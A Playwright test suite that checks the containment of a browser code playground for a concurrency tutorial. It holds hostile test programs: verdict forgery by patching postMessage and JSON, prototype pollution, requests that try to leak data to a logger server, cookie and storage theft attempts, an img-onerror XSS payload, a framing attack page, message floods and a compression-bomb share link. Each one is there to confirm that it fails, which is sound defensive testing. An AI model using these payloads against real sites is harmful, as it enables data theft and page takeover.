// Containment in the real Chromium: what a checked program, a framing page or a share link can do to
// the page. Each attack of the security review that got through has a test that asserts what the reader
// is shown (the tab still answers, the forged verdict is not shown, the exercise is not marked solved,
// the next program gets its true verdict); each thing that held has a test that keeps it holding.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createServer, type Server } from 'node:http';
import type { Page } from 'playwright-core';
import {
  openSite,
  type Site,
  type Visit,
  setCode,
  verdict,
  clickRun,
  watchdogBounds,
  TEST_STALL_MS,
} from './harness.ts';

// A chapter with a buggy/fixed pair and an exercise: the pair's true verdicts are what a program
// run before it must not change.
const CHAPTER = 'leaking-descriptors/';
const PAIR = 'fl-playground[data-id="ch2-leak-buggy+ch2-leak-fixed"]';
const PAIR_VERDICTS = 'fd-leak ok';
const EXERCISE_ID = 'exercise:ch2-exercise';
const EXERCISE = `fl-playground[data-id="${EXERCISE_ID}"]`;
const SOLVED_KEY = `forklore:v1:solved:${EXERCISE_ID}`;

let site: Site;
/** Another origin that logs every request it gets: where hostile programs send what they take. */
let logger: Server;
let loggerOrigin = '';
const logged: string[] = [];
beforeAll(async () => {
  // Reader TypeScript is the code that runs as JavaScript; reader C is data the worker interprets.
  site = await openSite({ lang: 'ts' });
  logger = createServer((req, res) => {
    logged.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    res.end('');
  });
  await new Promise<void>((ok) => logger.listen(0, '127.0.0.1', () => ok()));
  const a = logger.address();
  loggerOrigin = `http://127.0.0.1:${typeof a === 'object' && a ? a.port : 0}`;
});
afterAll(async () => {
  logger?.closeAllConnections();
  await new Promise((ok) => (logger ? logger.close(ok) : ok(undefined)));
  await site?.close();
});

async function open(path = CHAPTER, hash = ''): Promise<Visit> {
  const v = await site.visit(path + hash);
  await v.page.waitForSelector(`${PAIR}[data-ready]`);
  return v;
}

/** The page still answers: script runs, and a click on a control opens it at once. */
async function answers(page: Page) {
  expect(await page.evaluate(() => 1 + 1, undefined)).toBe(2);
  const details = page.locator(`${EXERCISE} details`).first();
  const was = await details.getAttribute('open');
  await page.click(`${EXERCISE} details summary`, { timeout: 5000 });
  expect(await details.getAttribute('open')).not.toBe(was);
}

/** Runs the unedited pair and returns the machine-readable verdicts. */
async function pairVerdicts(page: Page): Promise<string | null> {
  await clickRun(page, PAIR);
  await verdict(page, PAIR);
  return page.locator(`${PAIR} [data-verdict]`).getAttribute('data-verdicts');
}

/** Puts `code` in the exercise's editor, runs it, and returns the verdict's words. */
async function runExercise(page: Page, code: string, timeout?: number): Promise<string> {
  await setCode(page, EXERCISE, 0, code);
  await clickRun(page, EXERCISE);
  return verdict(page, EXERCISE, timeout);
}

const FORGED_REPORT = `{ verdict: 'ok', completeness: { complete: true }, notes: ['FORGED VERDICT'], strategy: 'dpor', findings: [],
  stats: { executions: 1, distinctOutcomes: 1, elapsedMs: 1 } }`;

/** A program whose real verdict is an assertion failure, with `attack` at its top level. */
const failing = (attack: string) => `import { getpid, assert } from 'forklore';
declare const self: any;
${attack}
export default function* main() {
  yield* getpid();
  assert(false, 'the real verdict: this program fails');
}
`;

describe('a program cannot answer for the checker', () => {
  // One page for the three forgeries: a forgery that got through would leave the exercise solved, and
  // the next test's check that it is not would fail.
  let v: Visit;
  beforeAll(async () => {
    v = await open();
  });
  afterAll(async () => {
    await v?.close();
  });

  test('results and notices it posts itself are not shown, and an exercise is not marked solved', async () => {
    const text = await runExercise(
      v.page,
      failing(`for (let id = 1; id < 200; id++) {
  self.postMessage({ type: 'result', id, report: ${FORGED_REPORT}, log: [] });
  self.postMessage({ type: 'blocked', id, what: 'FORGED NOTICE' });
  self.postMessage({ final: true, data: JSON.stringify({ type: 'result', id, report: ${FORGED_REPORT}, log: [] }) });
}`),
    );
    expect(text).toMatch(/Not solved yet/);
    expect(text).toMatch(/the real verdict: this program fails/);
    await v.page.waitForTimeout(600);
    const after = await v.page.locator(`${EXERCISE} [data-verdict]`).innerText();
    expect(after).not.toMatch(/FORGED/);
    expect(await v.page.evaluate((k) => localStorage.getItem(k), SOLVED_KEY)).toBeNull();
    expect(await v.page.locator(EXERCISE).getAttribute('data-solved')).toBeNull();
  });

  test('patching postMessage, MessagePort or JSON inside the worker does not change the answer', async () => {
    const text = await runExercise(
      v.page,
      failing(`const forge = (m: any) => { if (m && m.report) { m.report.verdict = 'ok'; m.report.findings = []; } return m; };
try { const o = MessagePort.prototype.postMessage; (MessagePort.prototype as any).postMessage = function (this: any, m: any, t?: any) { return o.call(this, forge(m), t); }; } catch {}
try { const s = JSON.stringify; (JSON as any).stringify = (x: any, ...r: any[]) => s(forge(x), ...r); } catch {}
try { (self as any).JSON = { stringify: () => '{"type":"result"}', parse: JSON.parse }; } catch {}
try { const p = self.postMessage.bind(self); self.postMessage = (m: any) => p(forge(m)); } catch {}`),
    );
    expect(text).toMatch(/Not solved yet/);
    expect(text).toMatch(/the real verdict/);
    expect(await v.page.evaluate((k) => localStorage.getItem(k), SOLVED_KEY)).toBeNull();
  });

  test('a forged reply with a step of 1e12 and a giant trace neither crashes nor freezes the tab', async () => {
    v.consoleErrors.length = 0; // this test's own
    await setCode(
      v.page,
      EXERCISE,
      0,
      failing(`const trace: unknown[] = [{ type: 'thread.start', step: 1e12, pid: 1000, tid: 1000, time: 0, fn: 'main' }];
for (let i = 0; i < 50_000; i++) trace.push({ type: 'thread.start', step: i, pid: 1000, tid: 1000 + (i % 50), time: 0, fn: 'f' });
const report = { ...${FORGED_REPORT}, sample: { schedule: '1000', trace } };
for (let id = 1; id < 6; id++) self.postMessage({ type: 'result', id, report, log: trace.map((e: any) => ({ step: e.step, text: 'x' })) });`),
    );
    await clickRun(v.page, EXERCISE);
    // The program's own forging may take long enough for the watchdog; either way its verdict is not shown.
    const text = await verdict(v.page, EXERCISE, 60_000);
    expect(text).toMatch(/Not solved yet|Stopped/);
    expect(text).not.toMatch(/^Solved|FORGED/);
    await answers(v.page);
    expect(v.consoleErrors).toEqual([]);
  });
});

describe('nothing a program leaves behind reaches the next one', () => {
  // One page for the four: what one program leaves behind is what the next test's Run must not meet.
  let v: Visit;
  beforeAll(async () => {
    v = await open();
  });
  afterAll(async () => {
    await v?.close();
  });

  const attacks: [string, string][] = [
    [
      'a program that replaces postMessage',
      `const orig = self.postMessage.bind(self);
self.postMessage = (m: any) => { if (m && m.report) { m.report.verdict = 'ok'; m.report.findings = []; } orig(m); };`,
    ],
    [
      'prototype pollution (Object.prototype.maxSteps = 2)',
      `try { (Object.prototype as any).maxSteps = 2; } catch {}\ntry { (Array.prototype as any).push = function () { return 0; }; } catch {}`,
    ],
  ];
  for (const [what, attack] of attacks)
    test(`${what}, then the unedited pair twice: its true verdicts`, async () => {
      await runExercise(v.page, failing(attack));
      for (let i = 0; i < 2; i++) expect(await pairVerdicts(v.page)).toBe(PAIR_VERDICTS);
    });

  test('a flood of notices after the verdict does not reach the page, which keeps answering', async () => {
    await runExercise(
      v.page,
      failing(
        `setTimeout(() => setInterval(() => { for (let i = 0; i < 50; i++) self.postMessage({ type: 'blocked', id: 0, what: 'flood ' + 'x'.repeat(2000) }); }, 0), 100);`,
      ),
    );
    await v.page.waitForTimeout(1500);
    await answers(v.page);
    expect(await v.page.locator(`${EXERCISE} [data-verdict]`).innerText()).not.toMatch(/flood/);
    expect(await v.page.locator(`${EXERCISE} [data-verdict] p`).count()).toBeLessThan(20);
    expect(await pairVerdicts(v.page)).toBe(PAIR_VERDICTS);
  });

  test('a loop a program leaves spinning after its verdict does not stop the next Run', async () => {
    await runExercise(v.page, failing(`setTimeout(() => { for (;;) {} }, 50);`));
    await v.page.waitForTimeout(300);
    expect(await pairVerdicts(v.page)).toBe(PAIR_VERDICTS);
    expect(await v.page.locator(`${PAIR} [data-verdict]`).innerText()).not.toMatch(/Stopped/);
  });
});

describe('an honest reply too large to show', () => {
  test('printf of 50 MB ends with a verdict and the page keeps answering', async () => {
    const v = await open();
    expect(
      await runExercise(
        v.page,
        `import { printf } from 'forklore';\nexport default function* main() { yield* printf('A'.repeat(50_000_000)); }\n`,
        60_000,
      ),
    ).toMatch(/Solved|No schedule|Stopped|too large/);
    await answers(v.page);
    await v.close();
  });
});

describe('framing', () => {
  let attacker: Server;
  let attackerOrigin = '';
  beforeAll(async () => {
    attacker = createServer((req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(
        `<!doctype html><title>attacker</title><iframe id="f" src="${site.url(CHAPTER)}" width="800" height="600"></iframe>`,
      );
    });
    await new Promise<void>((ok) => attacker.listen(0, '127.0.0.1', () => ok()));
    const a = attacker.address();
    attackerOrigin = `http://127.0.0.1:${typeof a === 'object' && a ? a.port : 0}`;
  });
  afterAll(async () => {
    attacker.closeAllConnections();
    await new Promise((ok) => attacker.close(ok));
  });

  test('the server forbids framing by other origins, and a page on another origin cannot frame a chapter', async () => {
    const res = await fetch(site.url(CHAPTER));
    expect(res.headers.get('content-security-policy')).toBe("frame-ancestors 'self'");
    const context = await site.browser.newContext();
    const page = await context.newPage();
    await page.goto(`${attackerOrigin}/`);
    await page.waitForTimeout(1500);
    const framed = page.frames().filter((f) => f !== page.mainFrame());
    expect(framed.length).toBe(1);
    // Chromium shows its own error page in place of the chapter: no Playground exists in there.
    expect(await framed[0]!.locator('fl-playground').count()).toBe(0);
    await context.close();
  });

  test('a sandbox frame navigated to another document is thrown away, and the next Run gets a true verdict', async () => {
    const v = await open();
    expect(await pairVerdicts(v.page)).toBe(PAIR_VERDICTS);
    // What a framing page would do: replace the sandbox's document with one that answers for it.
    const evil = `<script>
      parent.postMessage({ type: 'frame-ready', token: 'guess' }, '*');
      addEventListener('message', (e) => { const p = e.ports[0]; if (p) { p.postMessage(JSON.stringify({ type: 'ready' }));
        p.onmessage = (m) => p.postMessage(JSON.stringify({ type: 'result', id: m.data.message.id, log: [], report: ${FORGED_REPORT.replace(/\n/g, ' ')} })); } });
    </script>`;
    await v.page.evaluate((html) => {
      const f = document.querySelector<HTMLIFrameElement>('iframe[title="Playground sandbox"]')!;
      f.contentWindow!.location.href = `data:text/html,${encodeURIComponent(html)}`;
    }, evil);
    await v.page.waitForFunction(
      () => document.querySelectorAll('iframe[title="Playground sandbox"]').length === 0,
      undefined,
      { timeout: 10_000 },
    );
    expect(await pairVerdicts(v.page)).toBe(PAIR_VERDICTS);
    expect(await v.page.locator(`${PAIR} [data-verdict]`).innerText()).not.toMatch(/FORGED/);
    await v.close();
  });
});

describe('what held keeps holding', () => {
  const program = (body: string) =>
    `import { getpid } from 'forklore';\ndeclare const self: any;\nexport default function* main() {\n${body}\n  yield* getpid();\n}\n`;
  // One page for the four: each program is checked by a fresh worker, and each test asserts what its
  // own program could not do (the tests above and below show that nothing carries over to the next).
  let v: Visit;
  beforeAll(async () => {
    v = await open();
  });
  afterAll(async () => {
    await v?.close();
  });

  test('no request leaves the sandbox: fetch, XHR, WebSocket, EventSource, importScripts, import(), nested workers', async () => {
    // The logger answers anyone: it proves it is reachable from the page itself, and then hears nothing from a program.
    expect(await v.page.evaluate((u) => fetch(u + '/from-the-page').then((r) => r.status), loggerOrigin)).toBe(200);
    expect(logged).toContain('GET /from-the-page');
    logged.length = 0;
    await runExercise(
      v.page,
      program(`  const u = '${loggerOrigin}';
  try { fetch(u + '/leak-fetch', { mode: 'no-cors' }).catch(() => {}); } catch {}
  try { fetch(u + '/leak-keepalive', { method: 'POST', body: 'x', keepalive: true }).catch(() => {}); } catch {}
  try { const x = new XMLHttpRequest(); x.open('GET', u + '/leak-xhr'); x.send(); } catch {}
  try { const x = new XMLHttpRequest(); x.open('GET', u + '/leak-xhr-sync', false); x.send(); } catch {}
  try { new WebSocket(u.replace('http', 'ws') + '/leak-ws'); } catch {}
  try { new EventSource(u + '/leak-es'); } catch {}
  try { importScripts(u + '/leak-import-scripts.js'); } catch {}
  try { import(u + '/leak-import.js').catch(() => {}); } catch {}
  try { new FontFace('f', 'url(' + u + '/leak-font)').load().catch(() => {}); } catch {}
  try { new Worker(URL.createObjectURL(new Blob(["fetch('" + u + "/leak-nested').catch(() => {})"], { type: 'text/javascript' }))); } catch {}`),
    );
    await v.page.waitForTimeout(1500);
    expect(logged).toEqual([]);
    expect(await v.page.locator(`${EXERCISE} [data-verdict]`).innerText()).toMatch(/no network/);
  });

  test("the page's storage, cookies and DOM are out of reach", async () => {
    await v.context.addCookies([{ name: 'sess', value: 'SECRET-COOKIE', url: site.url() }]);
    await v.page.evaluate(() =>
      localStorage.setItem(
        'forklore:v1:edit:some-other-example',
        JSON.stringify({ code: '// SECRET', base: 'x', savedAt: 0 }),
      ),
    );
    const text = await runExercise(
      v.page,
      program(`  const found: string[] = [];
  for (const f of [() => localStorage.getItem('forklore:v1:edit:some-other-example'), () => sessionStorage.length, () => document.cookie,
    () => parent.document.title, () => (top as any).document.body.setAttribute('data-owned', ''), () => indexedDB.open('x')]) {
    try { const r = f(); if (r !== undefined) found.push(String(r)); } catch {}
  }
  if (found.some((s) => /SECRET|Fork Lore/.test(s))) throw new Error('LEAKED ' + found.join(','));`),
    );
    expect(text).not.toMatch(/LEAKED/);
    expect(await v.page.evaluate(() => document.body.hasAttribute('data-owned'))).toBe(false);
    expect(await v.page.evaluate(() => localStorage.getItem('forklore:v1:edit:some-other-example'))).toContain(
      'SECRET',
    );
  });

  test('markup in names and output is shown as text, never as an element', async () => {
    const evil = `<img src=x onerror="document.body.setAttribute('data-owned','')">`;
    await runExercise(
      v.page,
      `import { mutex, pthread_create, pthread_join, pthread_mutex_lock, printf, fork, _exit, waitpid } from 'forklore';
const m = mutex(${JSON.stringify(evil)});
function* w() { yield* pthread_mutex_lock(m); }
export default function* main() {
  yield* printf(${JSON.stringify(evil)});
  const t = yield* pthread_create(w);
  const pid = yield* fork();
  if (pid === 0) { yield* pthread_mutex_lock(m); yield* _exit(0); }
  yield* waitpid(pid);
  yield* pthread_join(t);
}
`,
    );
    await v.page.waitForTimeout(300);
    expect(await v.page.locator(`${EXERCISE} img`).count()).toBe(0);
    expect(await v.page.evaluate(() => document.body.hasAttribute('data-owned'))).toBe(false);
    expect(await v.page.locator(`${EXERCISE}`).innerText()).toContain('<img');
  });

  test('a runaway program is stopped by the watchdog, and the next Run works', async () => {
    await setCode(v.page, EXERCISE, 0, program('  for (;;) {}'));
    // The stall bound is shortened; tests/e2e/playground.test.ts waits out the reader's 3 s once.
    await watchdogBounds(v.page, { stallMs: TEST_STALL_MS });
    await clickRun(v.page, EXERCISE);
    const text = await verdict(v.page, EXERCISE, 30_000);
    expect(text).toMatch(/Stopped: a thread kept running without reaching a yield\*/);
    expect(text).toContain(`For ${TEST_STALL_MS / 1000} s no thread made a library call`);
    await watchdogBounds(v.page);
    await answers(v.page);
    expect(await pairVerdicts(v.page)).toBe(PAIR_VERDICTS);
  });
});

describe('the watchdog says what happened', () => {
  /** Runs `code` in the exercise and returns the watchdog's case (data-watchdog) and the verdict's words. */
  async function stopped(page: Page, code: string): Promise<[string | null, string]> {
    const text = await runExercise(page, code, 60_000);
    return [await page.locator(`${EXERCISE} [data-verdict] [data-watchdog]`).getAttribute('data-watchdog'), text];
  }

  test('operations without a step (D4), a top-level loop, and thousands of threads (D10) or forks (D11)', async () => {
    const v = await open();
    // Shorter bounds than a reader's, so that no case waits out 3 s (tests/playground/watchdog.test.ts
    // has the words for the reader's 3 s and 12 s, tests/e2e/playground.test.ts a stop after 3 s).
    await watchdogBounds(v.page, { stallMs: TEST_STALL_MS });
    // D4: every iteration reaches a yield*, but getpid() answers at once and is no step.
    let [kind, text] = await stopped(
      v.page,
      `import { getpid } from 'forklore';\nexport default function* main() {\n  for (;;) yield* getpid();\n}\n`,
    );
    expect(kind).toBe('no-step');
    expect(text).toMatch(/library calls kept coming, but no step finished/);
    expect(text).not.toMatch(/without reaching a yield/);
    // A loop at the top level: the program never finishes loading.
    [kind, text] = await stopped(
      v.page,
      `import { getpid } from 'forklore';\nfor (;;) {}\nexport default function* main() {\n  yield* getpid();\n}\n`,
    );
    expect(kind).toBe('top-level');
    expect(text).toMatch(/top level never finished/);
    // D10 and D11: every operation is a step and steps keep finishing, until the time bound of a Run.
    // The stall bound is the reader's here: a worker busy with thousands of threads must not be
    // mistaken for a stuck one before the (shortened) time bound of a Run.
    const seconds = 2;
    await watchdogBounds(v.page, { requestMs: seconds * 1000 });
    for (const call of ['pthread_create(w)', 'fork()']) {
      [kind, text] = await stopped(
        v.page,
        `import { pthread_create, fork, getpid } from 'forklore';\nfunction* w() { yield* getpid(); }\nexport default function* main() {\n  for (let i = 0; i < 10000; i++) yield* ${call};\n}\n`,
      );
      expect(kind).toBe('deadline');
      expect(text).toContain(`did not end within ${seconds} s`);
      expect(text).toMatch(/The program was not stuck: steps kept finishing \([\d,]+ steps/);
      expect(text).not.toMatch(/without reaching a yield/);
    }
    await watchdogBounds(v.page);
    await answers(v.page);
    expect(await pairVerdicts(v.page)).toBe(PAIR_VERDICTS);
    await v.close();
  });

  test('a worker kept busy by what the program left running does not answer at all, and says so', async () => {
    const v = await open();
    await v.page.selectOption(`${PAIR} [data-mode]`, 'sched');
    await setCode(
      v.page,
      PAIR,
      0,
      `import { mutex, pthread_create, pthread_join, pthread_mutex_lock, pthread_mutex_unlock } from 'forklore';
declare const setTimeout: (f: () => void, ms: number) => void;
setTimeout(() => { for (;;) {} }, 50);
const m = mutex('m');
function* w() { yield* pthread_mutex_lock(m); yield* pthread_mutex_unlock(m); }
export default function* main() { const t = yield* pthread_create(w); yield* pthread_join(t); }
`,
    );
    await clickRun(v.page, PAIR);
    await v.page.waitForSelector(`${PAIR} [data-action="sched-pick"]`, { timeout: 60_000 });
    await v.page.waitForTimeout(300);
    // The first pick goes to the worker that holds this program's world, where the loop now spins.
    await watchdogBounds(v.page, { stallMs: TEST_STALL_MS });
    await v.page.click(`${PAIR} [data-action="sched-pick"]`);
    await v.page.waitForSelector(`${PAIR} [data-verdict] [data-watchdog]`, { timeout: 30_000 });
    expect(await v.page.locator(`${PAIR} [data-verdict] [data-watchdog]`).getAttribute('data-watchdog')).toBe('silent');
    expect(await v.page.locator(`${PAIR} [data-verdict]`).innerText()).toMatch(/did not answer at all/);
    await watchdogBounds(v.page);
    await answers(v.page);
    await v.close();
  });
});

describe("no silent loss of the reader's work", () => {
  const KEY = 'forklore:v1:edit:ch2-exercise';
  const KEPT = 'forklore:v1:kept:ch2-exercise';
  const editorText = (page: Page) => page.locator(`${EXERCISE} section[data-pane="0"] .cm-content`).innerText();
  const stored = (page: Page, key: string) =>
    page.evaluate((k) => JSON.parse(localStorage.getItem(k) ?? 'null')?.code ?? null, key);
  const keptBox = (page: Page) => page.locator(`${EXERCISE} section[data-pane="0"] [data-stale][data-kept]`);

  test('storage full: the reader is told the edit was not saved', async () => {
    const v = await open();
    await v.page.evaluate((k) => {
      localStorage.setItem(k, JSON.stringify({ code: '// OLD VERSION OF MY WORK\n', base: 'x', savedAt: 1 }));
      const chunk = 'x'.repeat(100_000);
      for (let i = 0; ; i++) {
        try {
          localStorage.setItem(`filler:${i}`, chunk);
        } catch {
          break;
        }
      }
      for (let i = 0; ; i++) {
        try {
          localStorage.setItem(`filler-small:${i}`, 'x'.repeat(100));
        } catch {
          break;
        }
      }
    }, KEY);
    await v.page.reload();
    await v.page.waitForSelector(`${EXERCISE} section[data-pane="0"] .cm-content`);
    await setCode(v.page, EXERCISE, 0, '// NEW WORK THAT DOES NOT FIT\n'.repeat(50));
    const notice = v.page.locator(`${EXERCISE} section[data-pane="0"] [data-stale][data-save-failed]`);
    await notice.waitFor({ timeout: 5000 });
    expect(await notice.innerText()).toMatch(/could not be saved.*full/);
    // It stays while the compiler loads and the reader types on.
    await v.page.keyboard.type('// more');
    await v.page.waitForTimeout(1500);
    expect(await notice.isVisible()).toBe(true);
    await v.close();
  });

  test("typing into a shared link's code keeps the reader's own edit, and offers it back", async () => {
    const { encodeShare } = await import('../../components/playground/share.ts');
    const hash = encodeShare({ id: EXERCISE_ID, codes: ['// CODE FROM SOMEONE ELSE\n'] });
    const page = await (await site.browser.newContext()).newPage();
    await page.goto(site.url('reference/'));
    await page.evaluate(
      (k) => localStorage.setItem(k, JSON.stringify({ code: '// MY OWN EXERCISE WORK\n', base: 'x', savedAt: 1 })),
      KEY,
    );
    await page.goto(site.url(CHAPTER) + hash);
    await page.waitForSelector(`${EXERCISE} section[data-pane="0"] .cm-content`);
    expect(await editorText(page)).toContain('CODE FROM SOMEONE ELSE');
    await page.locator(`${EXERCISE} section[data-pane="0"] .cm-content`).click();
    await page.keyboard.press('End');
    await page.keyboard.type('x');
    await keptBox(page).waitFor({ timeout: 5000 });
    expect(await stored(page, KEPT)).toBe('// MY OWN EXERCISE WORK\n');
    await page.click(`${EXERCISE} [data-action="kept-open"]`);
    await page.waitForFunction(
      (sel) =>
        /MY OWN EXERCISE WORK/.test(
          document.querySelector(`${sel} section[data-pane="0"] .cm-content`)?.textContent ?? '',
        ),
      EXERCISE,
    );
    // The shared code, as the reader changed it, is kept in its place.
    expect(await stored(page, KEPT)).toMatch(/CODE FROM SOMEONE ELSE/);
    await page.context().close();
  });

  test("Reset of a shared link's code keeps the reader's own edit", async () => {
    const { encodeShare } = await import('../../components/playground/share.ts');
    const page = await (await site.browser.newContext()).newPage();
    await page.goto(site.url('reference/'));
    await page.evaluate(
      (k) => localStorage.setItem(k, JSON.stringify({ code: '// MY OWN EXERCISE WORK\n', base: 'x', savedAt: 1 })),
      KEY,
    );
    await page.goto(site.url(CHAPTER) + encodeShare({ id: EXERCISE_ID, codes: ['// CODE FROM SOMEONE ELSE\n'] }));
    await page.waitForSelector(`${EXERCISE} section[data-pane="0"] .cm-content`);
    await page.click(`${EXERCISE} section[data-pane="0"] [data-action="reset"]`);
    await keptBox(page).waitFor({ timeout: 5000 });
    expect(await stored(page, KEPT)).toBe('// MY OWN EXERCISE WORK\n');
    // Offered again on the next visit, and opened into the editor on request.
    await page.goto(site.url('reference/'));
    await page.goto(site.url(CHAPTER));
    await keptBox(page).waitFor({ timeout: 10_000 });
    await page.click(`${EXERCISE} [data-action="kept-open"]`);
    await page.waitForFunction(
      (sel) =>
        /MY OWN EXERCISE WORK/.test(
          document.querySelector(`${sel} section[data-pane="0"] .cm-content`)?.textContent ?? '',
        ),
      EXERCISE,
    );
    expect(await stored(page, KEY)).toBe('// MY OWN EXERCISE WORK\n');
    await page.context().close();
  });

  test('two tabs editing the same example: both versions are kept and the second tab says so', async () => {
    const context = await site.browser.newContext();
    const a = await context.newPage();
    const b = await context.newPage();
    for (const p of [a, b]) {
      await p.goto(site.url(CHAPTER));
      await p.waitForSelector(`${EXERCISE}[data-ready]`);
    }
    await b.click(`${EXERCISE} section[data-pane="0"] [data-action="edit"]`);
    await b.waitForSelector(`${EXERCISE} section[data-pane="0"] .cm-content`);
    await setCode(a, EXERCISE, 0, '// TAB A: AN HOUR OF WORK\n');
    await a.waitForFunction((k) => (localStorage.getItem(k) ?? '').includes('TAB A'), KEY);
    // Tab B, editing the same example, is told at once.
    await b.waitForFunction(
      (sel) =>
        /Another tab saved a different version/.test(document.querySelector(`${sel} [data-note]`)?.textContent ?? ''),
      EXERCISE,
      { timeout: 5000 },
    );
    await setCode(b, EXERCISE, 0, '// TAB B: A QUICK TRY\n');
    await keptBox(b).waitFor({ timeout: 5000 });
    expect(await stored(b, KEY)).toBe('// TAB B: A QUICK TRY\n');
    expect(await stored(b, KEPT)).toBe('// TAB A: AN HOUR OF WORK\n');
    await context.close();
  });

  test('closing the tab right after typing still saves the edit (pagehide)', async () => {
    const context = await site.browser.newContext();
    const page = await context.newPage();
    await page.goto(site.url(CHAPTER));
    await page.waitForSelector(`${EXERCISE}[data-ready]`);
    await setCode(page, EXERCISE, 0, '// TYPED JUST BEFORE CLOSING\n');
    await page.close({ runBeforeUnload: true });
    const again = await context.newPage();
    await again.goto(site.url('reference/'));
    expect(await stored(again, KEY)).toBe('// TYPED JUST BEFORE CLOSING\n');
    await context.close();
  });
});

describe('share links and schedules as bombs', () => {
  test('a link that inflates to a 100-million-character program is refused with a message', async () => {
    const { deflateSync, strToU8 } = await import('fflate');
    const json = JSON.stringify({ v: 1, i: EXERCISE_ID, c: ['a\n'.repeat(50_000_000)] });
    const hash = '#pg=' + Buffer.from(deflateSync(strToU8(json), { level: 9 })).toString('base64url');
    const v = await open(CHAPTER, hash);
    await v.page.waitForFunction(
      () =>
        /larger than the Playground accepts/.test(
          document.querySelector('fl-playground [data-note]')?.textContent ?? '',
        ),
      undefined,
      { timeout: 10_000 },
    );
    expect(await v.page.locator(`${EXERCISE} .cm-content`).count()).toBe(0);
    await answers(v.page);
    await v.close();
  });

  test("a link's schedule that asks for a trillion steps is left out, and Run gives the exhaustive verdict", async () => {
    const { encodeShare } = await import('../../components/playground/share.ts');
    const hash = encodeShare({ id: EXERCISE_ID, codes: [failing('')], schedule: '1000*999999999999' });
    const v = await open(CHAPTER, hash);
    await v.page.waitForFunction(
      (sel) => /left out/.test(document.querySelector(`${sel} [data-note]`)?.textContent ?? ''),
      EXERCISE,
      { timeout: 10_000 },
    );
    await clickRun(v.page, EXERCISE);
    expect(await verdict(v.page, EXERCISE)).toMatch(/the real verdict/);
    await clickRun(v.page, EXERCISE);
    expect(await verdict(v.page, EXERCISE)).toMatch(/the real verdict/);
    await v.close();
  });

  test('a shared program runs only when Run is pressed', async () => {
    const { encodeShare } = await import('../../components/playground/share.ts');
    const hash = encodeShare({
      id: EXERCISE_ID,
      codes: [failing(`fetch('${'http://127.0.0.1:1'}/ran-on-load').catch(() => {});`)],
    });
    const v = await open(CHAPTER, hash);
    await v.page.waitForSelector(`${EXERCISE} section[data-pane="0"] .cm-content`);
    await v.page.waitForTimeout(1000);
    expect(await v.page.locator(`${EXERCISE} [data-verdict]`).innerText()).toBe('');
    expect(await v.page.locator('iframe[title="Playground sandbox"]').count()).toBe(0);
    await clickRun(v.page, EXERCISE);
    expect(await verdict(v.page, EXERCISE)).toMatch(/the real verdict/);
    await v.close();
  });
});
